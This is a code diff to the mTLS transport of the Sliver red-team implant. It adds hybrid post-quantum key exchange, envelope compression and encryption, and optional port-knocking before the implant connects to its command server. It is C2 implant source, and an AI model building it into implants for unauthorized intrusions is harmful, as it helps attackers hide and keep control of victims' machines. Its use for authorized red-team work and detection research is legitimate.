@@ -36,7 +36,11 @@ import (
 
 	"os"
 
+	"github.com/bishopfox/sliver/implant/sliver/compression"
 	"github.com/bishopfox/sliver/implant/sliver/cryptography"
+	// {{if eq .Config.ConfigKeySource "bundle"}}
+	"github.com/bishopfox/sliver/implant/sliver/runtimeconfig"
+	// {{end}}
 	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
 	"google.golang.org/protobuf/proto"
 )
@@ -52,17 +56,63 @@ var (
 	certPEM = `{{.Config.MtlsCert}}`
 )
 
+// kemKeyLabel - TLS exporter label of the keying material the hybrid key is derived from
+const kemKeyLabel = "EXPORTER-sliver-mtls-kem"
+
+// Conn - An mTLS connection, implants with a hybrid key exchange send an ML-KEM
+// ciphertext after the TLS handshake and encrypt every envelope with a key derived
+// from both the TLS session and the KEM shared key
+type Conn struct {
+	*tls.Conn
+	sessionKey *[32]byte
+}
+
+// newConn - Complete the TLS handshake and the hybrid key exchange, the KEM message
+// is sent as a zero length frame followed by the algorithm ID and KEM ciphertext
+func newConn(connection *tls.Conn) (*Conn, error) {
+	err := connection.Handshake()
+	if err != nil {
+		return nil, err
+	}
+	conn := &Conn{Conn: connection}
+	kemMsg, kemSharedKey, err := cryptography.KEMToServer()
+	if err != nil || kemMsg == nil {
+		return conn, err
+	}
+	state := connection.ConnectionState()
+	tlsKey, err := state.ExportKeyingMaterial(kemKeyLabel, nil, 32)
+	if err != nil {
+		return nil, err
+	}
+	frame := make([]byte, 4, 4+len(kemMsg))
+	frame = append(frame, kemMsg...)
+	if _, err := connection.Write(frame); err != nil {
+		return nil, err
+	}
+	var key [32]byte
+	copy(key[:], tlsKey)
+	sessionKey := cryptography.SessionKey(key, kemSharedKey)
+	conn.sessionKey = &sessionKey
+	return conn, nil
+}
+
 // WriteEnvelope - Writes a message to the TLS socket using length prefix framing
 // which is a fancy way of saying we write the length of the message then the message
 // e.g. [uint32 length|message] so the receiver can delimit messages properly
-func WriteEnvelope(connection *tls.Conn, envelope *pb.Envelope) error {
-	data, err := proto.Marshal(envelope)
+func WriteEnvelope(connection *Conn, envelope *pb.Envelope) error {
+	data, err := proto.Marshal(compression.Compress(envelope))
 	if err != nil {
 		// {{if .Config.Debug}}
 		log.Print("Envelope marshaling error: ", err)
 		// {{end}}
 		return err
 	}
+	if connection.sessionKey != nil {
+		data, err = cryptography.Encrypt(*connection.sessionKey, data)
+		if err != nil {
+			return err
+		}
+	}
 	dataLengthBuf := new(bytes.Buffer)
 	binary.Write(dataLengthBuf, binary.LittleEndian, uint32(len(data)))
 	if _, werr := connection.Write(dataLengthBuf.Bytes()); werr != nil {
@@ -81,7 +131,7 @@ func WriteEnvelope(connection *tls.Conn, envelope *pb.Envelope) error {
 }
 
 // WritePing - Send a "ping" message to the server
-func WritePing(connection *tls.Conn) error {
+func WritePing(connection *Conn) error {
 	// {{if .Config.Debug}}
 	log.Print("Socket ping")
 	// {{end}}
@@ -96,7 +146,7 @@ func WritePing(connection *tls.Conn) error {
 }
 
 // ReadEnvelope - Reads a message from the TLS connection using length prefix framing
-func ReadEnvelope(connection *tls.Conn) (*pb.Envelope, error) {
+func ReadEnvelope(connection *Conn) (*pb.Envelope, error) {
 	dataLengthBuf := make([]byte, 4) // Size of uint32
 	if len(dataLengthBuf) == 0 || connection == nil {
 		panic("[[GenerateCanary]]")
@@ -127,6 +177,15 @@ func ReadEnvelope(connection *tls.Conn) (*pb.Envelope, error) {
 		// {{end}}
 		return nil, err
 	}
+	if connection.sessionKey != nil {
+		dataBuf, err = cryptography.Decrypt(*connection.sessionKey, dataBuf)
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("Decrypt envelope error: %v", err)
+			// {{end}}
+			return nil, err
+		}
+	}
 
 	// Unmarshal the protobuf envelope
 	envelope := &pb.Envelope{}
@@ -137,12 +196,27 @@ func ReadEnvelope(connection *tls.Conn) (*pb.Envelope, error) {
 		// {{end}}
 		return nil, err
 	}
+	err = compression.Decompress(envelope)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("Decompress envelope error: %v", err)
+		// {{end}}
+		return nil, err
+	}
 
 	return envelope, nil
 }
 
-// MtlsConnect - Get a TLS connection or die trying
-func MtlsConnect(address string, port uint16) (*tls.Conn, error) {
+// MtlsConnect - Get a TLS connection or die trying, knock is the c2's "knock" option
+func MtlsConnect(address string, port uint16, knock string) (*Conn, error) {
+	// {{if .Config.SPAEnabled}}
+	if err := SPAKnock(address, SPAKnockPorts(knock, port)); err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("Unable to knock: %v", err)
+		// {{end}}
+		return nil, err
+	}
+	// {{end}}
 	tlsConfig := getTLSConfig()
 	connection, err := tls.Dial("tcp", fmt.Sprintf("%s:%d", address, port), tlsConfig)
 	if err != nil {
@@ -151,10 +225,23 @@ func MtlsConnect(address string, port uint16) (*tls.Conn, error) {
 		// {{end}}
 		return nil, err
 	}
-	return connection, nil
+	conn, err := newConn(connection)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("Key exchange failed: %v", err)
+		// {{end}}
+		connection.Close()
+		return nil, err
+	}
+	return conn, nil
 }
 
 func getTLSConfig() *tls.Config {
+	// {{if eq .Config.ConfigKeySource "bundle"}}
+	if keys := runtimeconfig.Keys(); keys != nil {
+		caCertPEM, certPEM, keyPEM = keys.MtlsCACert, keys.MtlsCert, keys.MtlsKey
+	}
+	// {{end}}
 
 	certPEM, err := tls.X509KeyPair([]byte(certPEM), []byte(keyPEM))
 	if err != nil {